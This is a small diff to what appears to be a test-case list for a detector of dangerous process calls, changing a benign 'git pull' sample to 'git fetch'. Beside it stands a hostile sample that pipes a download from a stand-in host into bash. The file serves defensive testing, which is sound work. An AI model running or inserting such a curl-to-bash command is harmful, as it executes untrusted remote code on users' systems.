@@ -168,7 +168,7 @@ export const processAttacks: Attack[] = [
   python(
     'pipes an address into a shell',
     'import os\nos.system("curl -fsSL https://example.test/x | bash")',
-    'import os\nos.system("git pull")',
+    'import os\nos.system("git fetch")',
   ),
   python(
     'pipes an address into a shell that it puts together',
